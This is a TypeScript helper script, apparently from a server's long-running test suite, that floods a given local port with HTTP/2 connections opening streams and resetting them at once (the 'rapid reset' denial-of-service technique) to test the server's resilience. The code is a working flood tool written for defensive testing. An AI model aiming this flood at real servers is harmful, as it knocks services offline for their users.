/**
 * A program of its own, run by `test/long/rapid-reset.long.ts`: connections of HTTP/2 that open requests and reset them as fast as they
 * are read, and that come back when they are closed. `rapid-reset-flood.js PORT CONNECTIONS MS`; prints how many connections it had.
 */
import { setImmediate as nextTurn } from 'node:timers/promises';
import { FrameClient, headers, request, reset } from './h2-frames.js';

const PAIRS_PER_WRITE = 50;
/** Bytes that wait to be sent, of a connection. */
const WAITING_BYTES = 200_000;

const [port, connections, ms] = process.argv.slice(2).map(Number);
const until = performance.now() + (ms ?? 0);
const isOver = (): boolean => performance.now() >= until;
const writes = new Map<number, Buffer>();
let opened = 0;

/** Requests from this stream on, each reset at once. Made once: the flood is to cost the worker more than us. */
function pairsFrom(first: number): Buffer {
  const known = writes.get(first);
  if (known !== undefined) return known;
  const made = Buffer.concat(
    Array.from({ length: PAIRS_PER_WRITE }, (_, i) => first + 2 * i).flatMap((stream) => [
      headers(stream, request({ ':path': `/${stream}` })),
      reset(stream),
    ]),
  );
  writes.set(first, made);
  return made;
}

async function attack(): Promise<void> {
  while (!isOver()) {
    const client = await FrameClient.open(port ?? 0).catch(() => null);
    if (client === null) continue;
    opened += 1;
    for (let first = 1; !client.isClosed && !isOver(); await nextTurn()) {
      if (client.socket.writableLength >= WAITING_BYTES) continue;
      client.send(pairsFrom(first));
      first += 2 * PAIRS_PER_WRITE;
    }
    client.close();
  }
}

await Promise.all(Array.from({ length: connections ?? 0 }, attack));
process.stdout.write(`${opened}\n`);
